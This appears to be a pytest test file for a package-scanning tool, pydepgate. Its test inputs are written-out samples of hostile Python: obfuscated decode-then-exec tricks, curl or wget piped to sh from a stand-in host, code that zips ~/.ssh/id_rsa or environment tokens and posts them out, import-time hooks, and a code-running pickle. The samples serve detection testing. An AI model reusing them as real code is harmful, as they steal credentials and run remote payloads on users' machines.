"""Code that is hidden in files, documentation and classes, and executed: every way there is one of a class."""

from __future__ import annotations

import base64
import pickle
import zipfile
from pathlib import Path

import pytest

from pydepgate import scan
from pydepgate.analyse import analyse_member
from pydepgate.model import Member, Verdict

_UNREADABLE = base64.b64encode(bytes((7 * n * n + 3 * n) % 251 for n in range(90))).decode()
_NUMBERS = "/".join(str(40 + (7 * n * n) % 90) for n in range(60))
_UNSEEN = "".join("\u200b\u200c"[n * n % 3 % 2] for n in range(96))
_READ = "import os\nraw = open(os.path.join(os.path.dirname(__file__), 'table.bin'), 'rb').read()\n"


def names(source: str, path: str = "pkg/__init__.py") -> set[str]:
    data = source.encode("utf-8", "surrogatepass")
    return {signal.name for signal in analyse_member(Member(path, data, len(data))).signals}


def verdict(folder: Path, members: dict[str, str | bytes]) -> Verdict:
    path = folder / "pkg-1.0-py3-none-any.whl"
    metadata = "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n"
    with zipfile.ZipFile(path, "w") as wheel:
        for name, content in {**members, "pkg-1.0.dist-info/METADATA": metadata}.items():
            wheel.writestr(name, content)
    return scan(path).verdict


_FILE_DECODED = [
    "exec(bytes(b ^ 90 for b in raw))",
    "exec(''.join([chr(b ^ 90) for b in raw]))",
    "from itertools import cycle\nexec(bytes(a ^ b for a, b in zip(raw, cycle(b'key'))))",
    "def plain(data, key):\n    return bytearray(v ^ key[i % len(key)] for i, v in enumerate(data))\n"
    "exec(plain(raw, b'k'))",
    "out = bytearray()\nfor b in raw:\n    out.append(b - 3)\nexec(out.decode())",
    "data = bytearray(raw)\nfor i in range(len(data)):\n    data[i] ^= 90\nexec(bytes(data))",
    "bits = ''.join('1' if line.endswith(b' ') else '0' for line in raw.split(b'\\n'))\n"
    "exec(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)))",
    "n = 0\nfor line in raw.splitlines():\n    n = n * 2 + (line != line.rstrip())\n"
    "exec(n.to_bytes(64, 'big').decode())",
    "words = raw.decode().split()\ntable = {w: i for i, w in enumerate(words[:16])}\n"
    "exec(bytes(table[a] * 16 + table[b] for a, b in zip(words[16::2], words[17::2])))",
    "exec(raw.decode().translate(str.maketrans('abc', 'cab')))",
    "exec(raw.decode()[::-1])",
    "class Box:\n    def __init__(self, data):\n        self.data = data\n    def open(self):\n"
    "        return bytes((c - 9) % 256 for c in self.data)\nexec(Box(raw).open())",
    "import json\nexec(bytes(int(c[1:], 16) & 255 for c in json.loads(raw)['palette']))",
    "import csv\nexec(''.join(chr(int(row[1]) - 3) for row in csv.reader(raw.decode().splitlines())))",
    "def margin(lines):\n    for line in lines:\n        yield sum((c == 9) << (7 - i) for i, c in enumerate(line))\n"
    "import builtins\nvars(builtins)['exec'](bytes(bytearray(margin(raw.splitlines()))))",
]


@pytest.mark.parametrize("source", _FILE_DECODED)
def test_a_file_that_python_decodes_and_executes_is_decoded_data(source: str) -> None:
    assert not names(_READ + source).isdisjoint({"flow.decoded-data-to-exec", "flow.decode-to-exec"})


@pytest.mark.parametrize(
    "source",
    [
        "from importlib.resources import files\nraw = files(__package__).joinpath('x').read_bytes()",
        "import pkgutil\nraw = pkgutil.get_data(__name__, 'x')",
        "import pathlib\nraw = pathlib.Path(__file__).with_name('x').read_bytes()",
        "from PIL import Image\nraw = Image.open('x.png').getdata()",
        "import wave\nraw = wave.open('x.wav', 'rb').readframes(9)",
    ],
)
def test_files_are_read_in_many_ways(source: str) -> None:
    assert "flow.decoded-data-to-exec" in names(f"{source}\nexec(bytes(b & 255 ^ 7 for b in raw))")


@pytest.mark.parametrize(
    "source",
    [
        "exec(open('pkg/version.py').read())",
        "exec(open('pkg/version.py', 'rb').read().decode('utf-8'))",
        "about = {}\nwith open('pkg/about.py') as f:\n    exec(compile(f.read(), 'about.py', 'exec'), about)",
        "line = [x for x in open('pkg/version.py') if x.startswith('VERSION')][0]\nVERSION = eval(line.split('=')[1])",
        "text = open('pkg/version.py').read()\nexec(text[text.index('VERSION'):])",
        "text = open('pkg/version.py').read()\nif text == '':\n    text = 'x = 1'\nexec(text)",
    ],
)
def test_a_file_that_is_executed_as_it_stands_is_not(source: str) -> None:
    assert names(source, "setup.py").isdisjoint({"flow.decoded-data-to-exec", "flow.decode-to-exec"})


_OPAQUE = [
    f'NOTE = "hello {_UNSEEN}"\nfrom .clean import ZERO\nbits = "".join("0" if c == ZERO else "1" for c in NOTE)\n'
    "exec(''.join(chr(int(bits[i:i + 8], 2)) for i in range(0, len(bits), 8)))",
    f'"""Text.{_UNSEEN}"""\nfrom .clean import SIGNS\ndef check(doc=__doc__):\n'
    "    marks = [SIGNS.index(c) for c in doc if c in SIGNS]\n"
    "    return bytes(int(''.join(map(str, marks[i:i + 8])), 2) for i in range(0, len(marks), 8))\nexec(check())",
    f"from .conf import KEY\nexec(''.join(chr(int(n) - KEY) for n in '{_NUMBERS}'.split('/')))",
    f"import os\nexec(''.join(chr(int(n) - len(os.sep)) for n in '{_NUMBERS}'.split('/')))",
]


@pytest.mark.parametrize("source", _OPAQUE)
def test_what_only_derives_from_an_unreadable_literal_is_evidence_enough(source: str) -> None:
    assert not names(source).isdisjoint({"flow.opaque-to-exec", "flow.decode-to-exec", "flow.decoded-data-to-exec"})


_CLASSES = [
    "class Box:\n    def __init__(self, run=0, key=0, text=''):\n"
    "        self.a, self.b, self.plain = None, run, lambda t, k: ''.join(chr(int(n) - k) for n in t.split('/'))\n"
    "        self.b and self.go(lambda x: exec(self.plain(text, key), globals()))\n"
    "    def go(self, what):\n        return (None, what(self.a))[0]\nBox(run=True, key=3, text='{numbers}')",
    "from dataclasses import dataclass\n@dataclass\nclass Job:\n    text: str\n    key: int = 3\n    def run(self):\n"
    "        exec(''.join(chr(int(n) - self.key) for n in self.text.split('/')))\nJob('{numbers}').run()",
    "class Meta(type):\n    def __new__(mcs, name, bases, ns):\n        import base64\n        for v in ns.values():\n"
    "            if v:\n                exec(base64.b64decode(v))\n        return type.__new__(mcs, name, bases, ns)\n"
    "class Form(metaclass=Meta):\n    a = '{text}'",
    "class Base:\n    def __init_subclass__(cls):\n        import base64\n        exec(base64.b64decode(cls.a))\n"
    "class Form(Base):\n    a = '{text}'",
    "class Field:\n    def __init__(self, text):\n        self.text = text\n    def __set_name__(self, owner, name):\n"
    "        import base64\n        exec(base64.b64decode(self.text))\nclass Form:\n    a = Field('{text}')",
    "import base64\nclass Pipe:\n    def __init__(self, v):\n        self.v = v\n    def __or__(self, f):\n"
    "        return Pipe(f(self.v))\nPipe('{text}') | base64.b64decode | exec",
    "import base64, importlib.util\nclass Loader:\n    def get_source(self, name):\n"
    "        return base64.b64decode('{text}').decode()\nimportlib.util.spec_from_loader('m', Loader())",
    "import base64\ndef outer():\n    code = None\n    def inner():\n        nonlocal code\n"
    "        code = base64.b64decode('{text}')\n    inner()\n    exec(code)\nouter()",
    "import base64, operator\noperator.call(exec, base64.b64decode('{text}'))",
    "import base64\ndef f(x: exec(base64.b64decode('{text}'))): pass",
    "import base64\n__builtins__.__getattribute__('exec')(base64.b64decode('{text}'))",
    "import base64, re\nre.sub('.+', lambda m: str(exec(base64.b64decode(m.group()))), '{text}')",
    "import base64\nsorted(['{text}'], key=lambda x: exec(base64.b64decode(x)) or 0)",
    "import base64\ndef f(): pass\nf.__code__ = compile(base64.b64decode('{text}'), 'a', 'exec')",
    "import base64, subprocess, sys\nsubprocess.run([sys.executable], input=base64.b64decode('{text}'))",
    "import base64, subprocess, sys\np = subprocess.Popen([sys.executable, '-'], stdin=-1)\n"
    "p.communicate(base64.b64decode('{text}'))",
    "import base64, ctypes\nctypes.pythonapi.PyRun_SimpleString(base64.b64decode('{text}'))",
    "unpack = __import__('base64').b64decode\njoin = ''.join\nexec(unpack(join(['{text}'])))",
]


@pytest.mark.parametrize("source", _CLASSES)
def test_hidden_code_is_followed_through_what_python_calls(source: str) -> None:
    found = names(source.replace("{text}", _UNREADABLE).replace("{numbers}", _NUMBERS))
    assert "flow.decode-to-exec" in found


def test_text_on_the_standard_input_of_a_process_is_not_hidden() -> None:
    source = "import subprocess, base64\nsubprocess.run(['gpg', '-d'], input=base64.b64decode(data))"
    assert "flow.decoded-data-to-exec" not in names(source)


_COMMANDS = [
    "class Task:\n    def __init__(self, text, **given):\n        self.text, self.given = text, given\n"
    "    def line(self):\n"
    "        return self.text.format(**{k: shlex.quote(v) for k, v in self.given.items()})\n    def start(self):\n"
    "        subprocess.Popen(['/bin/sh', '-c', self.line()])\n"
    "def begin(host):\n    Task('wget -qO- {url} | sh', url='http://%s/x' % host).start()\nbegin('server.invalid')",
    "def lines(host):\n    yield 'curl -s http://' + host + '/x | sh'\nfor line in lines('server.invalid'):\n"
    "    os.system(line)",
    "ways = {'run': os.system, 'make': 'curl -s {} | sh'.format}\nways['run'](ways['make']('http://server.invalid/x'))",
    "import string\nos.system(string.Template('curl -s http://$host/x | sh').substitute(host='server.invalid'))",
    "from collections import namedtuple\nTask = namedtuple('Task', 'tool host')\nt = Task('curl', 'server.invalid')\n"
    "os.system(f'{t.tool} -s http://{t.host}/x | sh')",
    "for line in ['true', 'curl -s http://server.invalid/x | sh']:\n    os.system(line)",
]


@pytest.mark.parametrize("source", _COMMANDS)
def test_a_command_is_followed_through_helpers(source: str) -> None:
    assert "process.download-and-run" in names(f"import os, shlex, subprocess\n{source}")


@pytest.mark.parametrize(
    "source",
    [
        "b = io.BytesIO()\nwith tarfile.open(fileobj=b, mode='w:gz') as t:\n    t.add(os.path.expanduser('~/.ssh'))\n"
        "requests.put('https://s.invalid/x', data=b.getvalue())",
        "b = io.BytesIO()\nz = zipfile.ZipFile(b, 'w')\nz.write(os.path.expanduser('~/.ssh/id_rsa'))\nz.close()\n"
        "requests.post('https://s.invalid/x', files={'f': b})",
        "b = io.BytesIO()\nwith zipfile.ZipFile(b, mode='w') as z:\n"
        "    z.writestr('a', open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"
        "requests.post('https://s.invalid/x', data=b.read())",
    ],
)
def test_an_archive_in_memory_keeps_what_was_packed(source: str) -> None:
    assert "flow.secret-to-network" in names(f"import io, os, tarfile, zipfile, requests\n{source}")


@pytest.mark.parametrize(
    "source",
    [
        "import signal\nsignal.signal(signal.SIGTERM, send)",
        "import sys\nsys.excepthook = send",
        "import atexit\natexit.register(send)",
        "import logging\nclass H(logging.Handler):\n    def emit(self, record):\n        send()\nH()",
    ],
)
def test_what_is_called_by_itself_runs_at_import(source: str, tmp_path: Path) -> None:
    send = "import os, requests\ndef send(*given):\n    requests.post('https://s.invalid/', json=dict(os.environ))\n"
    assert verdict(tmp_path, {"pkg/__init__.py": send + source}) is Verdict.BLOCK


class _Calls:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return eval, ("1 + 1",)


@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_that_runs_code_is_found(protocol: int, tmp_path: Path) -> None:
    data = pickle.dumps({"weights": _Calls()}, protocol)
    assert verdict(tmp_path, {"pkg/__init__.py": "", "pkg/model.pkl": data}) is Verdict.BLOCK


@pytest.mark.parametrize("protocol", range(6))
def test_a_pickle_of_data_is_left_alone(protocol: int, tmp_path: Path) -> None:
    data = pickle.dumps({"weights": [1.5, "os system"], "path": Path("x")}, protocol)
    assert verdict(tmp_path, {"pkg/__init__.py": "", "pkg/model.pkl": data}) is not Verdict.BLOCK


def test_a_decorator_of_another_module_runs_where_a_class_is_made(tmp_path: Path) -> None:
    base = (
        "import zlib\ndef finish(cls):\n"
        "    cls.check = staticmethod(lambda text=cls.text: exec(zlib.decompress(bytes.fromhex(text))))\n"
        "    cls.check()\n    return cls\n"
    )
    form = "from .base import finish\n@finish\nclass Form:\n    text = TEXT\n"
    members = {"pkg/__init__.py": "from .form import Form\n", "pkg/base.py": base, "pkg/form.py": form}
    assert verdict(tmp_path, dict(members)) is Verdict.BLOCK


def test_a_plug_in_class_is_called_by_its_host(tmp_path: Path) -> None:
    checker = (
        "import os, requests\nclass Plugin:\n    def run(self):\n"
        "        found = {k: v for k, v in os.environ.items() if 'TOKEN' in k}\n"
        "        requests.post('https://s.invalid/', json=found)\n"
    )
    points = "[flake8.extension]\nX1 = pkg.checker:Plugin\n"
    members = {"pkg/checker.py": checker, "pkg-1.0.dist-info/entry_points.txt": points}
    assert verdict(tmp_path, dict(members)) is Verdict.BLOCK


@pytest.mark.parametrize(
    "source",
    [
        # a list of whatever in another order, part of which is known
        "class Stack:\n    def push(self, count):\n        parts = ['dict()']\n        parts.append(self.pop())\n"
        "        self.top = f\"{{{', '.join(parts[::-1])}}}\"\n    def run(self):\n        eval(self.top)\n",
        # a number that was computed, written out
        "import runpy\nMINOR = 9\nbefore = 'v{}'.format(MINOR - 2)\n"
        "open('version.py', 'w').write('before = %r' % before)\nrunpy.run_path('version.py')\n",
        "MINOR = 9\nexec(f'before = {MINOR - 2}')\n",
        "MINOR = 9\nexec('before = %d' % (MINOR - 2))\n",
        "MINOR = 9\nexec('before = ' + str(MINOR - 2))\n",
    ],
)
def test_what_is_only_ordered_or_counted_was_not_decoded(source: str) -> None:
    assert not {"flow.decode-to-exec", "flow.decode-to-start"} & names(source)


@pytest.mark.parametrize(
    "source",
    [
        "exec('%c%c%c' % (100 + 12, 100 - 2, 100 + 1))\n",
        "exec('{:c}{:c}'.format(100 + 12, 100 - 2))\n",
        "exec(f'{100 + 12:c}{100 - 2:c}')\n",
        "exec(''.join(['t)', 'in', 'pr'][::-1]))\n",
    ],
)
def test_what_is_put_together_of_characters_was(source: str) -> None:
    assert "flow.decode-to-exec" in names(source)
